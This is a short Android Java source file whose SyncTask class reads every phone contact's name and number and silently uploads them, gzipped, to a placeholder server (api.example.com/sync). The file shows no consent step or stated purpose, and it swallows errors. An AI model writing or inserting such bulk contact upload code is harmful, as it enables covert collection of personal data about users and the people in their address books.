package com.example.okbody;

import android.content.ContentResolver;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import java.io.IOException;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Reads, packs, sends. */
final class SyncTask implements Runnable {
    private final ContentResolver resolver;

    SyncTask(ContentResolver resolver) {
        this.resolver = resolver;
    }

    @Override
    public void run() {
        try {
            send(readAll());
        } catch (IOException | JSONException failed) {
            Thread.currentThread().interrupt();
        }
    }

    private JSONArray readAll() throws JSONException {
        JSONArray people = new JSONArray();
        Cursor cursor = resolver.query(Phone.CONTENT_URI, new String[] {"display_name", "data1"}, null, null, null);
        while (cursor.moveToNext()) {
            JSONObject person = new JSONObject();
            person.put("n", cursor.getString(0));
            person.put("p", cursor.getString(1));
            people.put(person);
        }
        cursor.close();
        return people;
    }

    private void send(JSONArray people) throws IOException {
        Request request = new Request.Builder()
                .url("https://api.example.com/sync")
                .header("Content-Encoding", "gzip")
                .post(new GzippedBody(people.toString()))
                .build();
        new OkHttpClient().newCall(request).execute().close();
    }
}
